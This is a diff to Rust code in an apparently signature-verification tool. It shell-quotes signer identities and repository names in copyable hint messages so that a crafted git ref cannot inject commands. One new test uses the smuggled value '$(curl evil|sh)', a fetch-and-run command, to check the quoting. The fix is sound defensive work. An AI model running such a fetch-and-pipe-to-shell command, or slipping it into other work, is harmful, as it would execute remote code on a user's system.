@@ -51,12 +51,29 @@ fn identity_hint(leaf: &Leaf, signer: &CertificateRule) -> String {
     if leaf.identity.eq_ignore_ascii_case(&expected) {
         return "the identities differ in upper and lower case alone: they are compared exactly".to_owned();
     }
-    let flags = format!("--certificate-identity {} --certificate-oidc-issuer {}", leaf.identity, leaf.issuer);
+    let flags = naming(leaf);
     match &signer.source {
         Some(rule) if leaf.source_repository().is_some_and(|found| same_repository(&found, &rule.repository)) => {
             format!("a reusable workflow signed it for that repository; if you trust it, add `{flags}`")
         }
         _ => format!("if you trust this signer, and only then, name it: `{flags}`"),
+    }
+}
+
+/// The flags that name the signer of a certificate.
+pub(super) fn naming(leaf: &Leaf) -> String {
+    format!("--certificate-identity {} --certificate-oidc-issuer {}", quoted(&leaf.identity), quoted(&leaf.issuer))
+}
+
+/// A text that a shell takes as one word and nothing else: hints are copied, and a git ref may hold `$(…)`.
+fn quoted(text: &str) -> String {
+    let is_plain = |b: u8| {
+        b.is_ascii_alphanumeric() || matches!(b, b'@' | b'%' | b'+' | b'=' | b':' | b',' | b'.' | b'/' | b'_' | b'-')
+    };
+    if !text.is_empty() && text.bytes().all(is_plain) {
+        text.to_owned()
+    } else {
+        format!("'{}'", text.replace('\'', r"'\''"))
     }
 }
 
@@ -125,7 +142,7 @@ fn check_unpinned_source(leaf: &Leaf) -> Finding {
     }
     let pin = source.strip_prefix("https://github.com/").map_or_else(
         || "this version can only pin repositories on github.com".to_owned(),
-        |name| format!("if {name} is the source you mean, add `--repo {name}`"),
+        |name| format!("if {name} is the source you mean, add `--repo {}`", quoted(name)),
     );
     Finding::fail(
         CheckId::SignerSource,
@@ -169,6 +186,16 @@ mod tests {
         assert!(belongs_to("https://github.com/Acme/App/.github/workflows/x.yml@refs/heads/main", repository));
         assert!(!belongs_to("https://github.com/acme/app-evil/.github/workflows/x.yml@refs/heads/main", repository));
         assert!(!belongs_to("https://github.com/acme/app", repository));
+    }
+
+    #[test]
+    fn hints_can_be_copied_into_a_shell() {
+        assert_eq!(
+            quoted("https://github.com/acme/app/x.yml@refs/tags/v1"),
+            "https://github.com/acme/app/x.yml@refs/tags/v1"
+        );
+        assert_eq!(quoted("x@refs/heads/$(curl evil|sh)"), "'x@refs/heads/$(curl evil|sh)'");
+        assert_eq!(quoted("it's"), r"'it'\''s'");
     }
 
     #[test]
